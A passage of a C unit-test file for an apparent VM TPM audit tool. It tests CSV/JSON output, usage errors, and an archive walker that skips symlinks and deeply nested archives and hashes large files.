	ck_assert_int_eq(json_object_get_int(jget(sum, "vms")), 1);
	ck_assert_int_eq(json_object_get_int(jget(sum, "vms_in_evidence")), 3);
	ck_assert_int_eq(json_object_get_int(jget(jget(sum, "verdicts"), "restorable_expired")), 0);
	json_object_put(doc);
	tu_run_free(&r);
	static const char *const a2[] = { "--format", "csv", "--expiring-before", "2026-02-15",
					  NULL };
	r = audit_run(NULL, pw, "2026-02-01", a2, tree);
	ck_assert_int_eq(r.status, 1);
	size_t counts[8];
	char *cell = NULL;
	ck_assert_uint_eq(csv_parse(r.out, r.outlen, counts, 8, &cell, 1, 1), 2);
	ck_assert_str_eq(cell, "vm-HVB");
	free(cell);
	tu_run_free(&r);
	static const char *const a3[] = { "--verdict", "rebuild", NULL };
	r = audit_run(NULL, pw, "2026-02-01", a3, tree);
	ck_assert_int_eq(r.status, 0);
	ck_assert_ptr_nonnull(strstr(r.out, "Only VMs with verdict rebuild: 0 of the 3 VMs"));
	tu_run_free(&r);
	tu_rmtree(d);
	free(tree);
	free(pw);
	free(d);
}
END_TEST

START_TEST(usage_errors)
{
	tu_run_result r = tu_hvtpm("audit", NULL);
	ck_assert_int_eq(r.status, 3);
	tu_run_free(&r);
	r = tu_hvtpm("audit", "--table", "vms", "/nonexistent", NULL);
	ck_assert_int_eq(r.status, 3);
	ck_assert_ptr_nonnull(strstr(r.err, "--format csv"));
	tu_run_free(&r);
	r = tu_hvtpm("audit", "--format", "csv", "--table", "disks", "/nonexistent", NULL);
	ck_assert_int_eq(r.status, 3);
	tu_run_free(&r);
	r = tu_hvtpm("audit", "--help", NULL);
	ck_assert_int_eq(r.status, 0);
	ck_assert_ptr_nonnull(strstr(r.out, "--table vms|certs"));
	tu_run_free(&r);
}
END_TEST

/* ---- the archive walker alone -------------------------------------------------------- */

typedef struct {
	char log[8192];
	size_t len;
	size_t files;
} sink_log;

static void log_add(sink_log *s, const char *fmt, ...) __attribute__((format(printf, 2, 3)));

static void log_add(sink_log *s, const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	int n = vsnprintf(s->log + s->len, sizeof s->log - s->len, fmt, ap);
	va_end(ap);
	if (n > 0 && (size_t)n < sizeof s->log - s->len)
		s->len += (size_t)n;
}

static void s_file(void *ctx, const char *path, const uint8_t *data, size_t len)
{
	sink_log *s = ctx;
	char l[32];
	snprintf(l, sizeof l, "%zu", len);
	log_add(s, "file %s %s\n", path, l);
	s->files++;
	(void)data;
}

static size_t s_begin(void *ctx, const char *path, const uint8_t *data, size_t len,
		      const char *format)
{
	log_add(ctx, "open %s (%s)\n", path, format);
	(void)data;
	(void)len;
	return 7;
}

static void s_end(void *ctx, size_t h, const arc_result *r)
{
	ck_assert_uint_eq(h, 7);
	log_add(ctx, "done %s %s\n", r->format, hv_err_name(r->status));
}

static void s_skip(void *ctx, const arc_skipped *k)
{
	log_add(ctx, "skip %s: %s\n", k->path, k->reason);
}

START_TEST(archive_walker_names_links_and_nesting)
{
	tfiles f = { .n = 0 };
	files_add(&f, "deep.txt", (uint8_t *)strdup("x"), 1);
	size_t l;
	uint8_t *b = files_to_archive(&f, "tar", &l);
	files_add(&f, "inner2.tar", b, l);
	files_add(&f, "c.txt", (uint8_t *)strdup("ccc"), 3);
	b = files_to_archive(&f, "zip", &l);
	files_add(&f, "dir/b.txt", (uint8_t *)strdup("bb"), 2);
	files_add(&f, "/abs/../name", (uint8_t *)strdup("a"), 1);
	files_add(&f, "link", NULL, 0);
	f.v[f.n - 1].link = "dir/b.txt";
	files_add(&f, "in.zip", b, l);
	uint8_t *outer = files_to_archive(&f, "tar.gz", &l);
	ck_assert(arc_sniff(span_make(outer, l)));
	sink_log log;
	memset(&log, 0, sizeof log);
	arc_sink s = { s_file, s_begin, s_end, s_skip, &log };
	arc_result r;
	hv_findings fi = { 0 };
	ck_assert_int_eq(arc_walk_mem("o.tgz", outer, l, &s, &r, &fi), HV_OK);
	ck_assert_str_eq(r.format, "tar (gzip)");
	ck_assert_int_eq(r.status, HV_OK);
	ck_assert_uint_eq(r.entries, 4);
	ck_assert_str_eq(log.log,
			 "file o.tgz!dir/b.txt 2\n"
			 "file o.tgz!/abs/../name 1\n"
			 "skip o.tgz!link: symbolic link to dir/b.txt: not followed\n"
			 "open o.tgz!in.zip (zip)\n"
			 "skip o.tgz!in.zip!inner2.tar: archive nested deeper than one level: "
			 "not opened\n"
			 "file o.tgz!in.zip!c.txt 3\n"
			 "done zip ok\n");
	arc_result_free(&r);
	findings_free(&fi);
	free(outer);
	/* compressed bytes without a tar inside are no archive: nothing reported */
	membuf m;
	struct archive *a = archive_write_new();
	archive_write_set_format_raw(a);
	archive_write_add_filter_gzip(a);
	archive_write_open(a, &m, NULL, mem_write, NULL);
	memset(&m, 0, sizeof m);
	writer_entry(a, "x", NULL, 5);
	archive_write_data(a, "plain", 5);
	archive_write_close(a);
	archive_write_free(a);
	ck_assert(arc_sniff(span_make(m.data, m.len)));
	memset(&log, 0, sizeof log);
	ck_assert_int_eq(arc_walk_mem("p.gz", m.data, m.len, &s, &r, &fi), HV_ERR_FORMAT);
	ck_assert_uint_eq(log.len, 0);
	ck_assert_uint_eq(fi.n, 0);
	free(m.data);
	ck_assert(!arc_sniff(span_make("GUESTRTS and more bytes", 23)));
}
END_TEST

START_TEST(archive_walker_streams_large_files_and_hashes_them)
{
	char *d = tu_mkdtemp();
	tfiles f = { .n = 0 };
	uint8_t *big = malloc(3 * MIB);
	for (size_t i = 0; i < 3 * MIB; i++)
		big[i] = (uint8_t)(i * 2654435761u >> 13);
	files_add(&f, "big.bin", big, 3 * MIB);
	files_add(&f, "small.txt", (uint8_t *)strdup("small"), 5);
	size_t l;
	uint8_t *tgz = files_to_archive(&f, "tar.gz", &l);
	char *p = tu_join(d, "x.tar.gz");
	tu_write(p, tgz, l);
	int fd = open(p, O_RDONLY);
	ck_assert_int_ge(fd, 0);
	sink_log log;
	memset(&log, 0, sizeof log);
	arc_sink s = { s_file, s_begin, s_end, s_skip, &log };
	arc_result r;
	hv_findings fi = { 0 };
	ck_assert_int_eq(arc_walk_fd(p, fd, l, &s, &r, &fi), HV_OK);
	close(fd);
	ck_assert(r.hashed);
	uint8_t dig[32];
	char hex[65];
	hv_sha256(tgz, l, dig);
	hv_sha256_hex(dig, hex);
	ck_assert_str_eq(r.sha256, hex);
	ck_assert_uint_eq(log.files, 2);
	ck_assert_uint_eq(r.expanded, 3 * MIB + 5);
	arc_result_free(&r);
	findings_free(&fi);
	free(tgz);
	tu_rmtree(d);
	free(p);
	free(d);
}
END_TEST

int main(void)
{
	for (int i = 0; i < 2; i++)
		if (!(keys[i] = EVP_RSA_gen(2048)))
			return 2;
	kpw_seed(7);
	Suite *s = suite_create("audit");
	TCase *arc = tcase_create("archive");
	tcase_add_test(arc, archive_walker_names_links_and_nesting);
	tcase_add_test(arc, archive_walker_streams_large_files_and_hashes_them);
	suite_add_tcase(s, arc);
	TCase *cli = tcase_create("cli");
	tcase_set_timeout(cli, 120);
	tcase_add_test(cli, vms_split_across_folders_and_archives);
	tcase_add_test(cli, archive_bombs_are_refused_and_the_audit_goes_on);
	tcase_add_test(cli, unreadable_files_are_reported_and_skipped);
	tcase_add_test(cli, symlink_loops_end_and_count_nothing_twice);
	tcase_add_test(cli, a_path_named_twice_is_read_once);
	tcase_add_test(cli, links_named_on_the_command_line_are_followed);
	tcase_add_test(cli, archive_members_are_known_by_where_they_were_read);
	tcase_add_test(cli, duplicate_pfx_copies_are_opened_once_and_all_listed);
	tcase_add_test(cli, same_inputs_and_date_give_the_same_bytes);
	tcase_add_test(cli, csv_and_jsonl_are_well_formed);
	tcase_add_test(cli, csv_cells_cannot_run_as_formulas);
	tcase_add_test(cli, audit_filters_vms_not_certificates);
	tcase_add_test(cli, expiry_is_ordered_by_date_at_the_given_time);
	tcase_add_test(cli, usage_errors);
	suite_add_tcase(s, cli);
	SRunner *sr = srunner_create(s);
	srunner_run_all(sr, CK_NORMAL);
	int failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	for (int i = 0; i < 2; i++)
		EVP_PKEY_free(keys[i]);
	return failed ? 1 : 0;
}
